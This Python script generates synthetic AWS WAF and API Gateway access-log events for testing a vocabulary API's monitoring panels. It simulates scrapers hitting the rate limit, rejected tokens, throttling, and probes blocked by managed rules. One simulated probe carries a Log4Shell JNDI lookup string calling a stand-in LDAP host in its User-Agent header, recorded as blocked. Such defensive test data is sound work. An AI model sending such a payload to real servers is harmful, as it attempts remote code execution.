#!/usr/bin/env python3
"""API Gateway access-log and AWS WAF log events for the requests the vocab API really served,
as CloudWatch Logs subscription payloads (`{"awslogs":{"data":base64(gzip(JSON))}}`, one per
line). Test and demo data, not part of the product.

Input: the vocab API's own log lines (`vocab-local` stdout; its one JSON line per request, as a
Lambda writes it). For every request line, the two lines AWS would have written for that request
before it reached the Lambda:

- an **access log line** of the HTTP API stage, in the JSON format the infra configures
  (docs/CONTRACTS.md section B; variables: https://docs.aws.amazon.com/apigateway/latest/developerguide/http-api-logging-variables.html),
  with every value a string and `-` for an empty one, as API Gateway writes them
  (https://docs.aws.amazon.com/apigateway/latest/developerguide/http-api-logging.html);
  `integrationRequestId` is the Lambda's request id (the line's `faas.execution`), and
  `integrationStatus` is 200, the status of the Lambda Invoke call, whatever the function
  answered ("For Lambda proxy integration, this parameter represents the status code returned
  from AWS Lambda, not from the backend Lambda function", same page);
- a **WAF log record** (ALLOW by the default action) of the web ACL on the CloudFront
  distribution in front of the API (fields: https://docs.aws.amazon.com/waf/latest/developerguide/logging-fields.html,
  examples: https://docs.aws.amazon.com/waf/latest/developerguide/logging-examples.html),
  with the client's own IP: API Gateway only sees CloudFront's.

Then the requests no Lambda ever saw, which is what the "refused before the Lambda" panels are
for:
- a client without a token scraping `GET /api/lists` at 6 requests/s for 90 s: the WAF's
  rate-based rule (`per-ip-300-per-minute`, 300 per 60 s window per IP, infra/modules/edge)
  lets the first 300 in any 60 s through, and API Gateway's JWT authorizer answers those 401;
  the rest the WAF blocks (403, `RATE_BASED`, with `rateBasedRuleList`);
- requests with expired or wrong-audience tokens, refused by the authorizer (401). The text of
  `$context.authorizer.error` for a JWT authorizer is not documented; we use the
  `error_description` API Gateway puts in `www-authenticate` for the same failures
  (https://docs.aws.amazon.com/apigateway/latest/developerguide/http-api-troubleshooting-jwt.html);
- a burst from one user over the stage's throttle: 429 from API Gateway, no integration;
- requests matched by the AWS managed rule groups of the web ACL (Log4j lookup in a header:
  `AWSManagedRulesKnownBadInputsRuleSet`/`Log4JRCE_HEADER`; no User-Agent:
  `AWSManagedRulesCommonRuleSet`/`NoUserAgent_HEADER`), blocked with `ruleGroupList` and labels.

Log groups as the infra names them: `/aws/apigateway/vocab-api/access` and
`aws-waf-logs-vocab-edge` (WAF requires the `aws-waf-logs-` prefix); WAF log stream names are
`<region>_<web ACL name>_<n>`.

    python3 scripts/gen_edge_logs.py --api-log vocab-api.log --out edge.jsonl [--seed 7]

Same input + same seed → byte-identical output.
"""

from __future__ import annotations

import argparse
import base64
import gzip
import hashlib
import json
import random
import sys
from dataclasses import dataclass, field
from datetime import datetime

ACCESS_GROUP = "/aws/apigateway/vocab-api/access"
WAF_GROUP = "aws-waf-logs-vocab-edge"
ACCOUNT = "123456789012"
REGION = "ap-northeast-2"
API_ID = "k3x9vq2m1a"
API_DOMAIN = f"{API_ID}.execute-api.{REGION}.amazonaws.com"
APP_DOMAIN = "vocab.example.com"
DISTRIBUTION = "E2QWRUHAPOMQZL"
WEB_ACL_NAME = "vocab-edge"
WEB_ACL_ID = f"arn:aws:wafv2:us-east-1:{ACCOUNT}:global/webacl/{WEB_ACL_NAME}/7b4d1f3e-2c8a-4e61-9f0d-5a6b7c8d9e0f"
RATE_RULE = "per-ip-300-per-minute"
RATE_LIMIT, RATE_WINDOW_MS = 300, 60_000
# CloudFront edge addresses (API Gateway's $context.identity.sourceIp behind CloudFront).
EDGE_IPS = ["130.176.212.14", "130.176.212.77", "64.252.118.9", "15.158.41.200"]
# Documentation ranges (RFC 5737) for the clients.
SCRAPER_IP = "203.0.113.77"
PROBE_IP = "198.51.100.23"
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (Linux; Android 14; SM-S921N) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
]
AUTHORIZER_ERRORS = ["the token has expired", "the token does not have a valid audience"]


@dataclass
class Events:
    """Log events per log group: (timestamp ms, message)."""
    by_group: dict[str, list[tuple[int, str]]] = field(default_factory=dict)
    counts: dict[str, int] = field(default_factory=dict)

    def add(self, group: str, ts: int, record: dict, kind: str):
        self.by_group.setdefault(group, []).append((ts, json.dumps(record, separators=(",", ":"))))
        self.counts[kind] = self.counts.get(kind, 0) + 1


def apigw_request_id(rng: random.Random) -> str:
    # e.g. "Mc7UVioPPHcEKPA=" (the apigw-requestid header).
    return base64.b64encode(rng.randbytes(11)).decode()[:15] + "="


def cloudfront_request_id(rng: random.Random) -> str:
    return base64.urlsafe_b64encode(rng.randbytes(42)).decode()


def access_line(rng, ts_ms, method, path, route_key, status, ip, ua, *, latency_ms, integration=None,
                authorizer_error="-", error_message="-", response_type="-", length=0) -> dict:
    """One access log line in the stage's format (every value a string, `-` when empty).
    `integration`: (status, latency ms, Lambda request id) when the request reached the Lambda."""
    i_status, i_latency, i_request = integration or ("-", "-", "-")
    return {
        "requestId": apigw_request_id(rng), "ip": ip, "userAgent": ua, "requestTimeEpoch": str(ts_ms),
        "httpMethod": method, "routeKey": route_key, "path": path, "protocol": "HTTP/1.1", "status": str(status),
        "responseLength": str(length), "responseLatency": str(latency_ms), "integrationStatus": str(i_status),
        "integrationLatency": str(i_latency), "integrationRequestId": i_request, "integrationError": "-",
        "authorizerError": authorizer_error, "errorMessage": error_message, "errorResponseType": response_type,
        "domainName": API_DOMAIN, "stage": "$default", "apiId": API_ID,
    }


def waf_record(rng, ts_ms, method, uri, args, client_ip, ua, *, action="ALLOW", rule="Default_Action",
               rule_type="REGULAR", rule_groups=None, rate_rules=None, labels=None, country="KR",
               authorized=True) -> dict:
    headers = [{"name": "host", "value": APP_DOMAIN}]
    if ua is not None:
        headers.append({"name": "user-agent", "value": ua})
    headers.append({"name": "accept", "value": "application/json"})
    if authorized:
        # The web ACL's logging configuration redacts this header (infra/modules/edge).
        headers.append({"name": "authorization", "value": "REDACTED"})
    rec = {
        "timestamp": ts_ms, "formatVersion": 1, "webaclId": WEB_ACL_ID, "terminatingRuleId": rule,
        "terminatingRuleType": rule_type, "action": action, "terminatingRuleMatchDetails": [],
        "httpSourceName": "CF", "httpSourceId": DISTRIBUTION, "ruleGroupList": rule_groups or [],
        "rateBasedRuleList": rate_rules or [], "nonTerminatingMatchingRules": [], "requestHeadersInserted": None,
        "responseCodeSent": None,
        "httpRequest": {"clientIp": client_ip, "country": country, "headers": headers, "uri": uri, "args": args,
                        "httpVersion": "HTTP/2.0", "httpMethod": method, "requestId": cloudfront_request_id(rng)},
    }
    if labels:
        rec["labels"] = [{"name": n} for n in labels]
    return rec


def parse_ts(s: str) -> int:
    return int(datetime.fromisoformat(s.replace("Z", "+00:00")).timestamp() * 1000)


def request_lines(lines) -> list[dict]:
    """The vocab API's request lines (service.name vocab-api, one per request)."""
    out = []
    for line in lines:
        line = line.strip()
        if not line.startswith("{"):
            continue
        try:
            obj = json.loads(line)
        except ValueError:
            continue
        if obj.get("service.name") == "vocab-api" and "http.response.status_code" in obj:
            out.append(obj)
    return out


def generate(api_lines, seed: int = 7, now_ms: int | None = None) -> Events:
    rng = random.Random(seed)
    ev = Events()
    reqs = request_lines(api_lines)
    if not reqs:
        raise ValueError("no vocab API request lines in the input (service.name vocab-api with a status code)")
    stamps = [parse_ts(r["@timestamp"]) for r in reqs if r.get("@timestamp")]
    t_first = min(stamps) if stamps else (now_ms or 0)
    user_ip: dict[str, str] = {}

    # Every request the Lambda served: its access log line and its WAF ALLOW record.
    for r in reqs:
        ts = parse_ts(r["@timestamp"]) if r.get("@timestamp") else t_first
        method, path = r.get("http.request.method", "GET"), r.get("url.path", "/")
        route = r.get("http.route")
        status = int(r["http.response.status_code"])
        duration_ms = int(r.get("event.duration", 0)) / 1e6
        init_ms = rng.uniform(150, 300) if r.get("faas.coldstart") else 0.0
        integration_ms = round(duration_ms + init_ms + rng.uniform(2, 8))
        user = r.get("user.id") or "anonymous"
        client_ip = user_ip.setdefault(user, f"175.{rng.randrange(192, 224)}.{rng.randrange(256)}.{rng.randrange(1, 255)}")
        ua = BROWSERS[int(hashlib.sha256(user.encode()).hexdigest(), 16) % len(BROWSERS)]
        ev.add(WAF_GROUP, ts - 3, waf_record(rng, ts - 3, method, "/api" + path, "", client_ip, ua,
                                             authorized=user != "anonymous"), "waf_allow")
        ev.add(ACCESS_GROUP, ts + integration_ms,
               access_line(rng, ts, method, path, f"{method} {route}" if route else "$default", status,
                           rng.choice(EDGE_IPS), ua, latency_ms=integration_ms + rng.randrange(1, 5),
                           integration=(200, integration_ms, r.get("faas.execution", "-")),
                           length=rng.randrange(2, 4000)),
               "access_lambda")

    # Refused before the Lambda, in the minutes before the served traffic.
    t0 = t_first - 240_000
    # A client without a token: the rate rule blocks it past 300 requests per 60 s; before that
    # the JWT authorizer answers 401.
    window: list[int] = []
    for k in range(540):
        ts = t0 + k * 1000 // 6
        # Every request counts towards the rate, blocked ones too: at 6/s the client stays over
        # the limit, so once blocked it stays blocked until it slows down.
        window = [t for t in window if t > ts - RATE_WINDOW_MS]
        over = len(window) >= RATE_LIMIT
        window.append(ts)
        ua = "python-requests/2.32.3"
        if over:
            ev.add(WAF_GROUP, ts, waf_record(
                rng, ts, "GET", "/api/lists", "", SCRAPER_IP, ua, action="BLOCK", rule=RATE_RULE,
                rule_type="RATE_BASED", country="US", authorized=False,
                rate_rules=[{"rateBasedRuleId": f"{WEB_ACL_ID.rsplit('/', 1)[0]}/ratebasedrule/{RATE_RULE}",
                             "rateBasedRuleName": RATE_RULE, "limitKey": "IP", "maxRateAllowed": RATE_LIMIT,
                             "evaluationWindowSec": "60"}]), "waf_rate_block")
            continue
        ev.add(WAF_GROUP, ts, waf_record(rng, ts, "GET", "/api/lists", "", SCRAPER_IP, ua, country="US",
                                         authorized=False), "waf_allow")
        ev.add(ACCESS_GROUP, ts + 2, access_line(
            rng, ts, "GET", "/lists", "GET /lists", 401, rng.choice(EDGE_IPS), ua, latency_ms=rng.randrange(1, 4),
            error_message="Unauthorized", response_type="UNAUTHORIZED", length=26), "access_unauthorized")

    # Tokens the authorizer refuses (expired, wrong audience), from browsers of real users.
    for k in range(24):
        ts = t0 + 100_000 + k * 2_500
        ua = rng.choice(BROWSERS)
        ip = f"175.{rng.randrange(192, 224)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        route = rng.choice([("GET", "/lists", "GET /lists"), ("GET", "/me", "GET /me"),
                            ("POST", "/lists", "POST /lists")])
        ev.add(WAF_GROUP, ts, waf_record(rng, ts, route[0], "/api" + route[1], "", ip, ua), "waf_allow")
        ev.add(ACCESS_GROUP, ts + 2, access_line(
            rng, ts, route[0], route[1], route[2], 401, rng.choice(EDGE_IPS), ua, latency_ms=rng.randrange(2, 9),
            authorizer_error=AUTHORIZER_ERRORS[k % len(AUTHORIZER_ERRORS)], error_message="Unauthorized",
            response_type="UNAUTHORIZED", length=26), "access_unauthorized")

    # One user's burst over the stage throttle: API Gateway answers 429 itself.
    for k in range(15):
        ts = t0 + 150_000 + k * 40
        ua = BROWSERS[1]
        ev.add(WAF_GROUP, ts, waf_record(rng, ts, "GET", "/api/lists", "", "175.210.4.31", ua), "waf_allow")
        ev.add(ACCESS_GROUP, ts + 1, access_line(
            rng, ts, "GET", "/lists", "GET /lists", 429, rng.choice(EDGE_IPS), ua, latency_ms=1,
            error_message="Too Many Requests", response_type="THROTTLED", length=31), "access_throttled")

    # Probes the managed rule groups block.
    for k in range(6):
        ts = t0 + 30_000 + k * 7_000
        if k % 2 == 0:
            ev.add(WAF_GROUP, ts, waf_record(
                rng, ts, "GET", "/api/me", "", PROBE_IP, "${jndi:ldap://198.51.100.23:1389/a}", action="BLOCK",
                rule="aws-known-bad-inputs", rule_type="MANAGED_RULE_GROUP", country="NL", authorized=False,
                rule_groups=[{"ruleGroupId": "AWS#AWSManagedRulesKnownBadInputsRuleSet",
                              "terminatingRule": {"ruleId": "Log4JRCE_HEADER", "action": "BLOCK", "ruleMatchDetails": None},
                              "nonTerminatingMatchingRules": [], "excludedRules": None, "customerConfig": None}],
                labels=["awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header"]), "waf_managed_block")
        else:
            ev.add(WAF_GROUP, ts, waf_record(
                rng, ts, "GET", "/api/lists", "", PROBE_IP, None, action="BLOCK", rule="aws-common",
                rule_type="MANAGED_RULE_GROUP", country="NL", authorized=False,
                rule_groups=[{"ruleGroupId": "AWS#AWSManagedRulesCommonRuleSet",
                              "terminatingRule": {"ruleId": "NoUserAgent_HEADER", "action": "BLOCK", "ruleMatchDetails": None},
                              "nonTerminatingMatchingRules": [], "excludedRules": None, "customerConfig": None}],
                labels=["awswaf:managed:aws:core-rule-set:NoUserAgent_Header"]), "waf_managed_block")
    return ev


def event_id(group: str, n: int) -> str:
    # CloudWatch event ids are 56-digit strings.
    h = int.from_bytes(hashlib.sha256(group.encode()).digest()[:8], "big")
    return f"{h:020d}{n:036d}"


def payloads(ev: Events, per_batch: int = 500) -> list[str]:
    """Subscription payloads, per log group in timestamp order, at most `per_batch` events each."""
    out = []
    for group, events in sorted(ev.by_group.items()):
        events = sorted(events, key=lambda e: e[0])
        stream = (f"us-east-1_{WEB_ACL_NAME}_0" if group == WAF_GROUP else f"{API_ID}_$default")
        for start in range(0, len(events), per_batch):
            chunk = events[start:start + per_batch]
            inner = {"messageType": "DATA_MESSAGE", "owner": ACCOUNT, "logGroup": group, "logStream": stream,
                     "subscriptionFilters": ["to-shipper"],
                     "logEvents": [{"id": event_id(group, start + i), "timestamp": ts, "message": msg}
                                   for i, (ts, msg) in enumerate(chunk)]}
            data = base64.b64encode(gzip.compress(json.dumps(inner, separators=(",", ":")).encode(), mtime=0)).decode()
            out.append(json.dumps({"awslogs": {"data": data}}))
    return out


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--api-log", required=True, help="the vocab API's log lines (vocab-local stdout)")
    ap.add_argument("--out", help="JSONL of subscription payloads (default: stdout)")
    ap.add_argument("--seed", type=int, default=7)
    args = ap.parse_args(argv)
    with open(args.api_log, encoding="utf-8") as f:
        ev = generate(f, args.seed)
    lines = payloads(ev)
    text = "".join(line + "\n" for line in lines)
    if args.out:
        with open(args.out, "w", encoding="utf-8") as f:
            f.write(text)
    else:
        sys.stdout.write(text)
    print(json.dumps({"payloads": len(lines), **ev.counts}), file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
